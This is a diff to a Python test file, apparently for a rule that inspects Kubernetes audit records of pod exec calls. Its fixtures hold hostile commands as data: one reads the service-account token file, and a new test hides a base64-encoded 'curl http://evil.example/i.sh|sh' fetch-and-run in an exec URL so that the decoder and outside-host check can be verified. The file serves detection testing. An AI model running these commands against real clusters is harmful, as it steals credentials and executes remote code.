@@ -30,6 +30,7 @@ def test_a_real_exec() -> None:
             "id; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
         ),
         "command.text": "sh -c id; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+        "command.decoded": ("sh -c id; cat /var/run/secrets/kubernetes.io/serviceaccount/token",),
         "command.word": "sh",
         "command.tty": False,
         "command.stdin": False,
@@ -101,3 +102,14 @@ def test_switches_are_read_as_the_api_server_does(value: str, expected: bool) ->
 def test_only_exec_and_attach_have_a_row(document: dict[str, Any], count: int) -> None:
     """A record that lost its reference is judged by its path."""
     assert len(rows(event(document), "command")) == count
+
+
+def test_a_command_is_read_below_its_encoding() -> None:
+    """The rule sees the hidden command, and the host that it names."""
+    row = command(
+        f"{POD}/exec?command=sh&command=-c"
+        "&command=echo%20Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL2kuc2h8c2g%3D%7Cbase64%20-d%7Csh"
+    )
+
+    assert "curl http://evil.example/i.sh|sh" in row["command.decoded"]
+    assert row["command.outside_hosts"] == ("evil.example",)
